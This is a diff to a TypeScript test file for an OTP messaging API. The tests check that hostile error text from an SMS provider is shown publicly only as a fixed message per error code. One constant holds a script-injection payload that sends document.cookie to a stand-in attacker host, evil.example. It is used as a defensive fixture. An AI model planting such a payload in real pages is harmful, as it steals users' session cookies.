@@ -2,7 +2,7 @@ import { SELF } from 'cloudflare:test';
 import { describe, expect, it } from 'vitest';
 import { GENERIC_ERROR_MESSAGE, PUBLIC_ERROR_MESSAGES, publicLastError } from '../src/api/public-last-error';
 import { adminJson } from './support/admin';
-import { PROVIDER_URL, seedRequest, startMessagingEnv } from './support/fixtures';
+import { PROVIDER_URL, SEND_ROUTE, seedRequest, startMessagingEnv } from './support/fixtures';
 import { interceptOrigin, json } from './support/outbound';
 import { deliverSendJobs } from './support/queue';
 
@@ -11,7 +11,7 @@ const HOSTILE = '<script>fetch("https://evil.example/?c="+document.cookie)</scri
 
 describe('GET /v1/otp/:id shows a fixed message per error code, never the provider’s text', () => {
   it('a provider’s hostile error text: the public view has the code and its fixed message; operators see the text', async () => {
-    const calls = interceptOrigin(PROVIDER_URL, () => json(400, { success: false, error: { code: 'BAD', message: HOSTILE } }));
+    const calls = interceptOrigin(PROVIDER_URL, { [SEND_ROUTE]: () => json(400, { success: false, error: { code: 'BAD', message: HOSTILE } }) });
     const { id } = await seedRequest();
     await deliverSendJobs(startMessagingEnv(), [id]);
     expect(calls).toHaveLength(1);
@@ -34,7 +34,7 @@ describe('GET /v1/otp/:id shows a fixed message per error code, never the provid
   });
 
   it('a transient failure shows its fixed message while the request waits for its retry', async () => {
-    interceptOrigin(PROVIDER_URL, () => json(503, { error: { message: `${HOSTILE} (maintenance)` } }));
+    interceptOrigin(PROVIDER_URL, { [SEND_ROUTE]: () => json(503, { error: { message: `${HOSTILE} (maintenance)` } }) });
     const { id } = await seedRequest();
     await deliverSendJobs(startMessagingEnv(), [id]);
     const body = await (await SELF.fetch(`${BASE}/v1/otp/${id}`)).json<{ status: string; lastError: unknown }>();
